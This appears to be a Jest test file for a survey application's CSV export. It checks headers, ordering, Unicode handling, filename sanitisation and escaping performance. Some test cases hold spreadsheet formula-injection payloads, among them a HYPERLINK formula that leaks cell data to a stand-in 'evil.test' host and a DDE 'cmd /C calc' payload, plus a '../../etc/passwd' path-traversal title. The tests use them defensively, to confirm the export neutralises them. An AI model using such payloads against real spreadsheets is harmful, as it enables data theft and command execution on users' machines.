import { ObjectId } from 'mongodb';
import { exportCsv, listResponses, type SurveyDraft } from '@canvass/shared/contracts';
import { startApi, type TestUser, type TestApi } from '../../../testing/api';
import { download, downloadLines, downloadRows, readCsv } from '../../../testing/download';
import { publishSurvey } from '../../../testing/data/surveys';
import { castTestVote, storeVotes } from '../../../testing/data/votes';
import { createCsvWriter } from './csv';

let api: TestApi;
let surveyor: TestUser;

beforeAll(async () => {
  api = await startApi();
  surveyor = await api.createUser('surveyor');
});

afterAll(() => api.stop());

const QUESTIONS: SurveyDraft['questions'] = [
  { title: 'Open on Sundays?' },
  { title: 'What for?', kind: 'multiple', options: ['Reading', 'Lending', 'Coffee'] },
  { title: 'How good is it?', kind: 'rating' },
  { title: 'Anything else?', kind: 'text' },
];

/** Text that some spreadsheet treats as a formula. */
const FORMULA = /(^|[;\t\r\n])\s*([=+@\uFF1D\uFF0B\uFF20]|[-\uFF0D](?!\)))/;

describe('a file for spreadsheets', () => {
  test('the CSV file has a row per response, newest first, and a column per question', async () => {
    const id = await publishSurvey(api, surveyor, { title: 'Sunday hours / “now”', questions: QUESTIONS });
    const ada = await castTestVote(api, id, 'Ada Marsh', {
      response: {
        'Question-1': 'Yes',
        'Question-2': ['Reading', 'Coffee'],
        'Question-3': 4,
        'Question-4': 'Long, really',
      },
      comment: 'At last.',
    });
    const ben = await castTestVote(api, id, 'Ben Oak', {
      response: { 'Question-1': 'No', 'Question-2': ['Lending'], 'Question-3': 1, 'Question-4': 'No' },
    });
    const { body } = await api.call(listResponses, { token: surveyor.token, params: { id } });
    const [second, first] = body;
    const { status, headers, text } = await download(api, exportCsv, id, surveyor);
    expect(status).toBe(200);
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(headers['content-disposition']).toBe('attachment; filename=Sunday-hours-now-responses.csv');
    expect(headers['x-total-count']).toBe('2');
    expect(text).toBe(
      [
        '\uFEFFSerial number,Id,User email,User name,Voted at (UTC),Version,Comment,Question-1: Open on Sundays?,' +
          '"Question-2: What for?, Reading","Question-2: What for?, Lending","Question-2: What for?, Coffee",' +
          'Question-3: How good is it?,Question-4: Anything else?',
        `1,${second?._id},${ben.email},Ben Oak,${second?.at},1,,No,0,1,0,1,No`,
        `2,${first?._id},${ada.email},Ada Marsh,${first?.at},1,At last.,Yes,1,0,1,4,"Long, really"`,
        '',
      ].join('\r\n'),
    );
  });

  test.each([
    ['=HYPERLINK("http://evil.test/?"&A1)', '\'=HYPERLINK("http://evil.test/?"&A1)'],
    ['+1+1', "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t'=1+1"],
    ['\r=1+1', "'\r'=1+1"],
    ['\n=1+1', "\n'=1+1"],
    ['  =1+1', "  '=1+1"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
    ['\uFF20A1', "'\uFF20A1"],
    ['fine;=1+1', "fine;'=1+1"],
    ['fine; +1', "fine; '+1"],
    ['fine\t@A1', "fine\t'@A1"],
    ['fine\n-1+cmd', "fine\n'-1+cmd"],
    ['quote"\r\n=1+1', 'quote"\r\n\'=1+1'],
    ['Great ;-)', 'Great ;-)'],
    ['1 - 1 = 0', '1 - 1 = 0'],
    ["'=1+1", "'=1+1"],
  ])('the CSV file shows %j as text in every position', async (written, shown) => {
    const questions = [{ title: written, options: [written, 'Other'] }];
    const id = await publishSurvey(api, surveyor, { questions: [{ title: 'Replaced' }] });
    await api.db
      .collection('surveys')
      .updateOne(
        { _id: new ObjectId(id) },
        { $set: { questions: [{ description: '', kind: 'single', ...questions[0] }] } },
      );
    await storeVotes(api, id, [
      {
        votedUserName: written,
        votedUserEmail: written,
        comment: written,
        response: { 'Question-1': [written, written] },
      },
    ]);
    const [headers, row] = await downloadRows(api, id, surveyor);
    expect([row?.[2], row?.[3], row?.[6]]).toEqual([shown, shown, shown]);
    expect([headers?.[7], row?.[7]].filter((cell = '') => FORMULA.test(cell))).toEqual([]);
  });

  test('escaping many line breaks takes linear time', () => {
    const { write } = createCsvWriter([{ version: 1, questions: [] }], { isMixed: false, surveyFields: [] });
    const row = { id: '1', votedUserEmail: 'ada@canvass.test', votedUserName: 'Ada', version: 1, response: {} };
    const comment = `${'\n'.repeat(100_000)}.${';\n\t'.repeat(30_000)}`;
    // CPU time of this process, which other processes do not affect.
    const startedAt = process.cpuUsage();
    expect(write([{ ...row, comment, at: new Date(0) }], 1)).toContain(comment);
    // With quadratic time, it would take ten seconds or more.
    expect(process.cpuUsage(startedAt).user / 1_000_000).toBeLessThan(4);
  });

  test('the CSV file keeps quotes, commas, line breaks and all scripts unchanged', async () => {
    const comment = 'She said "no", twice.\nThen: 🗳️ été, 日本語, שלום,\r\n"end"';
    const id = await publishSurvey(api, surveyor);
    await storeVotes(api, id, [{ comment, votedUserName: 'O\'Neil, "Bo" 🦊' }]);
    const [, row] = await downloadRows(api, id, surveyor);
    expect([row?.[3], row?.[6]]).toEqual(['O\'Neil, "Bo" 🦊', comment]);
    expect((await downloadLines(api, id, surveyor))[0]).toMatchObject({ comment, votedUserName: 'O\'Neil, "Bo" 🦊' });
  });

  test('the CSV file of a survey without votes has only headers', async () => {
    const id = await publishSurvey(api, surveyor);
    const { text, trailers, checksum } = await download(api, exportCsv, id, surveyor);
    expect(readCsv(text.slice(1))).toHaveLength(1);
    expect(trailers).toEqual({ 'x-row-count': '0', 'x-content-sha256': checksum });
  });

  test('the CSV file is named after its survey, with a fallback for titles without letters', async () => {
    const getFilename = async (title: string) =>
      (await download(api, exportCsv, await publishSurvey(api, surveyor, { title }), surveyor)).headers[
        'content-disposition'
      ];
    expect(await getFilename('../../etc/passwd')).toBe('attachment; filename=etc-passwd-responses.csv');
    expect(await getFilename('🦊🦊')).toBe('attachment; filename=survey-responses.csv');
    expect(await getFilename('Öffnung')).toContain("filename*=UTF-8''%C3%96ffnung-responses.csv");
  });
});
